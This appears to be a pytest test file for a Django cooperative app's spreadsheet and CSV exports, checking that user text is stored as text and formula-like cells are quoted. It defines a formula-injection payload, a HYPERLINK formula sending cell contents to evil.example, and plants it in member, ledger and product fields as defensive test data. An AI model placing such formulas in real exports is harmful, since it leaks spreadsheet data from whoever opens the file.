"""Formula injection (issue 12 item 10): user text is written as text in every export."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kopdig.lib.documents import csv_cell, xlsx_bytes
from kopdig.members.models import Member
from kopdig.tenancy.models import Cooperative

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


def _cells(content: bytes):
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in ws.iter_rows() for cell in row]


def test_xlsx_bytes_writes_every_string_as_text_and_decimals_as_numbers():
    content = xlsx_bytes(
        [
            (
                "S",
                ["nama", "jumlah"],
                [[EVIL, Decimal("1234567.89")], ["+1", Decimal("0.10")], ["@SUM(A1)", 3], ["-2+3", None]],
            )
        ]
    )
    cells = _cells(content)
    texts = {c.value: c.data_type for c in cells if isinstance(c.value, str)}
    assert texts[EVIL] == "s" and texts["+1"] == "s" and texts["@SUM(A1)"] == "s" and texts["-2+3"] == "s"
    numbers = [c for c in cells if c.data_type == "n" and c.value is not None]
    assert [str(c.value) for c in numbers] == ["1234567.89", "0.1", "3"]
    assert not any(c.data_type == "f" for c in cells)


@pytest.mark.parametrize("raw", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_csv_cell_quotes_formula_starts(raw):
    assert csv_cell(raw) == "'" + raw


def test_csv_cell_leaves_plain_values():
    assert csv_cell("Beli ATK") == "Beli ATK" and csv_cell("") == "" and csv_cell(5) == 5


@pytest.fixture
def evil_member(world):
    return Member.objects.create(
        cooperative=world.coop_a,
        number="00066",
        nik="3513154101900066",
        name=EVIL,
        gender="L",
        joined_on=dt.date(2024, 1, 2),
        address="@cmd",
        occupation="+62",
    )


@pytest.mark.django_db
def test_member_excel_export_writes_the_name_as_text(world, client, evil_member):
    client.force_login(world.pengurus_a)
    resp = client.get("/k/ksu-sejahtera/anggota/", {"format": "xlsx"})
    assert resp.status_code == 200
    cells = {c.value: c.data_type for c in _cells(resp.content) if c.value in (EVIL, "@cmd", "+62")}
    assert cells == {EVIL: "s", "@cmd": "s", "+62": "s"}


@pytest.mark.django_db
def test_savings_report_excel_writes_the_name_as_text(world, client, evil_member):
    client.force_login(world.pengurus_a)
    resp = client.get("/k/ksu-sejahtera/simpanan/laporan/", {"tab": "anggota", "format": "xlsx"})
    assert resp.status_code == 200
    assert [c.data_type for c in _cells(resp.content) if c.value == EVIL] == ["s"]


@pytest.mark.django_db
def test_ledger_csv_export_quotes_memos_that_start_like_formulas(world, client, api_client):
    body = {
        "date": "2025-02-03",
        "memo": EVIL,
        "lines": [
            {"account": "5206", "debit": "1", "memo": "@SUM(A1:A9)"},
            {"account": "1101", "credit": "1", "memo": "-3"},
        ],
    }
    assert (
        api_client.as_user(world.kasir_a).post("/api/v1/coops/ksu-sejahtera/journal", body).status_code == 201
    )
    client.force_login(world.pengurus_a)
    resp = client.get("/k/ksu-sejahtera/buku/ekspor/", {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(resp.streaming_content).decode())))
    memos = [r["keterangan"] for r in rows if r["no_bukti"]]
    assert "'@SUM(A1:A9)" in memos and "'-3" in memos
    assert not any(m[:1] in "=+-@" for m in memos)


@pytest.mark.django_db
def test_usaha_catalogue_excel_writes_the_product_name_as_text(world, client):
    from kopdig.usaha.actions import product_create

    product_create(
        actor=world.pengurus_a,
        cooperative=world.coop_a,
        code="jebakan",
        name=EVIL,
        price_member="1000",
        price_non_member="1200",
        packaging="=1+1",
    )
    client.force_login(world.pengurus_a)
    resp = client.get("/k/ksu-sejahtera/usaha/produk/excel/")
    assert resp.status_code == 200
    cells = {c.value: c.data_type for c in _cells(resp.content) if c.value in (EVIL, "=1+1")}
    assert cells == {EVIL: "s", "=1+1": "s"}


@pytest.mark.django_db
def test_ledger_report_workbook_writes_the_cooperatives_name_as_text(world, client):
    """The statements' letterhead rows hold the cooperative's name (entered by the Dinas)."""
    Cooperative.objects.filter(pk=world.coop_a.pk).update(name=EVIL)
    client.force_login(world.pengurus_a)
    resp = client.get("/k/ksu-sejahtera/buku/laporan/neraca-saldo/", {"format": "xlsx"})
    assert resp.status_code == 200
    assert [c.data_type for c in _cells(resp.content) if c.value == EVIL] == ["s"]


def test_every_spreadsheet_and_csv_writer_goes_through_lib_documents():
    """Exports of usaha, programs, network, health, dinas and the rest write rows with
    ``xlsx_response``/``xlsx_bytes``/``xlsx_append`` (text cells) and CSV with ``csv_cell``:
    no module outside lib appends raw rows to a worksheet or a csv writer."""
    root = Path(__file__).resolve().parents[2]
    raw = re.compile(r"\bws\.append\(|\.cell\([^)]*value=|csv\.writer\(")
    offenders = []
    for path in root.rglob("*.py"):
        rel = path.relative_to(root).as_posix()
        if {"tests", "migrations"} & set(path.parts) or rel.startswith("lib/documents"):
            continue
        text = path.read_text()
        for match in raw.finditer(text):
            line = text[: match.start()].count("\n") + 1
            if "csv.writer(" in match.group(0) and "csv_cell(" in text:
                continue  # the ledger CSV: every user-text column passes csv_cell (tested above)
            offenders.append(f"{rel}:{line}")
    assert offenders == []
